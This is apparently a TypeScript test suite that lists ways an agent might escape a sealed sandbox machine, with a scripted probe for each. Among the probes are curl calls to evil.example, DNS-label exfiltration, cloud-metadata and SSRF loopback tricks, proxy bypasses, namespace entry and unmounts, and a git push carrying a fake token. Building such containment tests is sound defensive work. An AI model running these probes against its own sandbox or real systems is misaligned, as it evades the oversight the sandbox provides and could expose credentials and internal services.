/**
 * Ways out of a sealed machine. `script` prints REACHED when it got something out or back. `blocked`: the host that the
 * run's report must name. `byFilter`: the filter of system calls alone holds it, so it is the agent's user's only.
 */
export type Try = { name: string; script: string; blocked?: string; byFilter?: true };

type Address = { domain: string; address: string; port?: string };
const socketTo = ({ domain, address, port = "0" }: Address): string =>
  `PORT=${port} timeout 10 perl -MSocket=:all -e 'socket(my $s, ${domain}, SOCK_STREAM, 0) or exit 1; alarm 5; connect($s, ${address}) or exit 1; syswrite($s, "out") or exit 1; print "REACHED\\n"'`;
/** `host` is a piece of perl. */
const v4 = (host: string, port: string): string =>
  socketTo({ domain: "PF_INET", address: `pack_sockaddr_in($ENV{PORT}, inet_aton(${host}))`, port });
const v6 = (host: string, port: string): string =>
  socketTo({ domain: "PF_INET6", address: `pack_sockaddr_in6($ENV{PORT}, inet_pton(AF_INET6, ${host}))`, port });
const curl = (args: string): string => `curl -sS -m 10 -f ${args} && echo REACHED`;
const direct = (args: string): string => curl(`--noproxy '*' ${args}`);
/** Says these lines to a port of the namespace and shows what comes back. */
const say = (port: string, bytes: string): string =>
  `timeout 10 perl -MSocket=:all -e 'socket(my $s, PF_INET, SOCK_STREAM, 0); connect($s, pack_sockaddr_in($ENV{PORT}, inet_aton("127.0.0.1"))) or exit 1; alarm 5; syswrite $s, $_ for (${bytes}); while (sysread $s, my $b, 1000) { print $b }'`.replace(
    "timeout",
    `PORT=${port} timeout`,
  );
const connectTo = (host: string, port: string, then: string): string =>
  say("$PROXY", `"CONNECT ${host}:${port} HTTP/1.1\\r\\nhost: ${host}:${port}\\r\\n\\r\\n", ${then}`);

const sockets: Try[] = [
  { name: "TCP to the machine's loopback", script: v4('"127.0.0.1"', "$TCP") },
  { name: "TCP to the machine's loopback over IPv6", script: v6('"::1"', "$TCP") },
  {
    name: "TCP to the machine's own address",
    script: v4("$ENV{HOST}", "$TCP"),
  },
  { name: "TCP to the world", script: v4('"1.1.1.1"', "443") },
  { name: "TCP to the world over IPv6", script: v6('"2606:4700:4700::1111"', "443") },
  {
    name: "UDP to the machine's own address",
    script: `timeout 10 perl -MSocket=:all -e 'socket(my $s, PF_INET, SOCK_DGRAM, 0); send($s, "out", 0, pack_sockaddr_in($ENV{UDP}, inet_aton($ENV{HOST}))) and print "REACHED\\n"'`,
  },
  {
    name: "UDP to the machine's loopback",
    script: `timeout 10 perl -MSocket=:all -e 'socket(my $s, PF_INET, SOCK_DGRAM, 0); send($s, "out", 0, pack_sockaddr_in($ENV{UDP}, inet_aton("127.0.0.1")));'`,
  },
  {
    name: "UDP to a resolver of the world",
    script: `timeout 10 perl -MSocket=:all -e 'socket(my $s, PF_INET, SOCK_DGRAM, 0); send($s, "out", 0, pack_sockaddr_in(53, inet_aton("8.8.8.8"))) and print "REACHED\\n"'`,
  },
  {
    name: "ICMP to the world",
    script: `timeout 10 perl -MSocket=:all -e 'socket(my $s, PF_INET, SOCK_DGRAM, 1) or exit 1; send($s, pack("C2n3", 8, 0, 0, 1, 1), 0, pack_sockaddr_in(0, inet_aton("1.1.1.1"))) and print "REACHED\\n"'`,
  },
  {
    name: "a raw socket",
    script: `timeout 10 perl -MSocket=:all -e 'socket(my $s, PF_INET, SOCK_RAW, 255) or exit 1; send($s, "out", 0, pack_sockaddr_in(0, inet_aton("1.1.1.1"))) and print "REACHED\\n"'`,
  },
  { name: "a packet socket", script: `perl -e 'socket(my $s, 17, 3, 0) and print "REACHED\\n"'`, byFilter: true },
  {
    name: "a socket to the virtual machine's host",
    script: `perl -e 'socket(my $s, 40, 1, 0) and print "REACHED\\n"'`,
    byFilter: true,
  },
  {
    name: "io_uring",
    script: `perl -e 'my $p = "\\0" x 120; syscall(425, 8, $p) >= 0 and print "REACHED\\n"'`,
    byFilter: true,
  },
  {
    name: "a unix socket with a path",
    script: socketTo({ domain: "PF_UNIX", address: "pack_sockaddr_un($ENV{SOCKET})" }),
  },
  {
    name: "an abstract unix socket",
    script: socketTo({ domain: "PF_UNIX", address: 'pack_sockaddr_un("\\0$ENV{ABSTRACT}")' }),
  },
];

const namespaces: Try[] = [
  { name: "a new user namespace", script: "unshare -Ur true && echo REACHED", byFilter: true },
  {
    name: "a new user namespace by clone",
    script: `perl -e 'my $p = syscall(56, 0x10000011, 0, 0, 0, 0); if ($p == 0) { print "REACHED\\n"; exit }'`,
    byFilter: true,
  },
  { name: "the first process's network namespace", script: "nsenter -t 1 -n true && echo REACHED" },
  { name: "the supervisor's network namespace", script: "nsenter --net=/proc/$SUPERVISOR/ns/net true && echo REACHED" },
  { name: "the supervisor's files", script: "ls /proc/$SUPERVISOR/root/ && echo REACHED" },
  { name: "the machine's table of connections", script: "cat /proc/1/net/tcp && echo REACHED" },
  { name: "a signal to the supervisor", script: "kill -0 $SUPERVISOR && echo REACHED" },
  { name: "the hidden folders", script: "umount /run && echo REACHED; umount -l /proc && echo REACHED" },
  { name: "the machine's resolver", script: "umount /etc/resolv.conf && echo REACHED" },
  {
    name: "an address for the loopback device",
    script: `perl -MSocket=:all -e 'socket(my $s, PF_INET, SOCK_DGRAM, 0); my $r = pack("a16a16x8", "lo", pack_sockaddr_in(0, inet_aton("127.0.0.1"))); ioctl($s, 0x8916, $r) and print "REACHED\\n"'`,
  },
];

const addresses: Try[] = [
  { name: "metadata by the proxy", script: curl("http://169.254.169.254/latest/"), blocked: "169.254.169.254" },
  { name: "metadata past the proxy", script: direct("http://169.254.169.254/latest/") },
  { name: "Fly's private network by the proxy", script: curl("'http://[fdaa::3]/'") },
  { name: "Fly's private network past the proxy", script: direct("'http://[fdaa::3]/'") },
  { name: "Fly's API by its name", script: curl("http://_api.internal:4280/v1/apps"), blocked: "_api.internal" },
  {
    name: "Google's metadata by its name",
    script: curl("http://metadata.google.internal/"),
    blocked: "metadata.google.internal",
  },
  ...[
    "2130706433",
    "0x7f.1",
    "0177.0.0.1",
    "127.1",
    "[::ffff:127.0.0.1]",
    "[::1]",
    "localhost",
    "127.0.0.1.",
    "０x7f.1",
  ].map((host) => ({
    name: `loopback written ${host}`,
    script: `curl -sS -m 10 -f --noproxy none.example http://${host}/ && echo REACHED; ${connectTo(host.replace("０", "0"), "443", '"x"')}`,
  })),
  {
    name: "another port of a listed host",
    script: `${connectTo("packages.example", "22", '"SSH-2.0-x\\r\\n"')}; ${curl("http://packages.example:8080/")}`,
    blocked: "packages.example",
  },
  ...["private4", "shared", "metadata", "azure", "fly", "loopback", "mapped", "nat64", "mixed", "own"].map((host) => ({
    name: `a listed name with a closed address: ${host}`,
    script: `${curl(`http://${host}.example/`)}; ${direct(`http://${host}.example/`)}; ${curl(`-k https://${host}.example/`)}`,
    blocked: `${host}.example`,
  })),
  {
    name: "a name that changes its address",
    script: `timeout 2 curl -sS http://rebound.example/; ${curl("http://rebound.example/")}; ${curl("-k https://rebound.example/")}`,
    blocked: "rebound.example",
  },
];

const names: Try[] = [
  { name: "a name that is not listed", script: curl("https://evil.example/"), blocked: "evil.example" },
  {
    name: "words in the name that DNS is asked for",
    script: "getent hosts c2VjcmV0.evil-names.example && echo REACHED; true",
    blocked: "c2vjcmv0.evil-names.example",
  },
  {
    name: "ignored proxies",
    script: `env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy curl -sS -m 10 https://ignored.example/ && echo REACHED`,
    blocked: "ignored.example",
  },
  {
    name: "another TLS name in a tunnel",
    script: curl("-k --connect-to other.example:443:packages.example:443 https://other.example/"),
    blocked: "packages.example",
  },
  {
    name: "another TLS name past the proxy",
    script: direct("-k --connect-to other.example:443:packages.example:443 https://other.example/"),
    blocked: "packages.example",
  },
  {
    name: "no TLS in a tunnel",
    script: connectTo("packages.example", "443", '"SSH-2.0-out\\r\\n"'),
    blocked: "packages.example",
  },
  {
    name: "another Host in a tunnel to port 80",
    script: connectTo("packages.example", "80", '"GET /other-host HTTP/1.1\\r\\nhost: other.example\\r\\n\\r\\n"'),
    blocked: "packages.example",
  },
  { name: "no HTTP in a tunnel to port 80", script: connectTo("packages.example", "80", '"SSH-2.0-out\\r\\n\\r\\n"') },
  {
    name: "another Host past the proxy",
    script: direct("-H 'host: other.example' http://packages.example/other-host"),
    blocked: "packages.example",
  },
  {
    name: "plain text for https by the proxy",
    script: say("$PROXY", '"GET https://packages.example/other-host HTTP/1.1\\r\\nhost: packages.example\\r\\n\\r\\n"'),
    blocked: "packages.example",
  },
  {
    name: "an address of the stub that is nobody's",
    script: `${direct("http://127.99.0.1/")}; ${direct("-k https://127.99.0.1/")}`,
    blocked: "?",
  },
  {
    name: "a redirect to a name that is not listed",
    script: curl("-L 'http://packages.example/?to=http://evil-redirect.example/'"),
    blocked: "evil-redirect.example",
  },
  {
    name: "a redirect to metadata",
    script: curl("-L 'http://packages.example/?to=http://169.254.169.254/'"),
    blocked: "169.254.169.254",
  },
  {
    name: "a redirect to the machine's loopback",
    script: curl(`-L "http://packages.example/?to=http://127.0.0.1:$TCP/"`),
  },
];

const PUSH =
  "rm -rf $T; T=$(mktemp -d); cd $T; git init -q .; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x";
const git: Try[] = [
  { name: "github.com by the proxy", script: curl("https://github.com/"), blocked: "github.com" },
  {
    name: "a push to github.com with another's token",
    script: `${PUSH}; timeout 20 git push -q "https://x:$(printf 'ghp_%s' fake)@github.com/a/b" HEAD:main && echo REACHED`,
    blocked: "github.com",
  },
  {
    name: "a push by way of git's reads",
    script: `${PUSH}; timeout 20 git push -q "http://x:fake@127.0.0.1:$GIT/$GIT_HOST/a/b" HEAD:main && echo REACHED`,
  },
  {
    name: "a pack for git's reads",
    script: curl(`-X POST "http://127.0.0.1:$GIT/$GIT_HOST/a/b/git-receive-pack" -d out`),
  },
  {
    name: "another host by way of git's reads",
    script: curl(`"http://127.0.0.1:$GIT/evil.example/a/b/info/refs?service=git-upload-pack"`),
  },
  {
    name: "another path by way of git's reads",
    script: curl(`--path-as-is "http://127.0.0.1:$GIT/$GIT_HOST/a/b/releases/download/../../../../user"`),
  },
];

export const TRIES: readonly Try[] = [...sockets, ...namespaces, ...addresses, ...names, ...git];
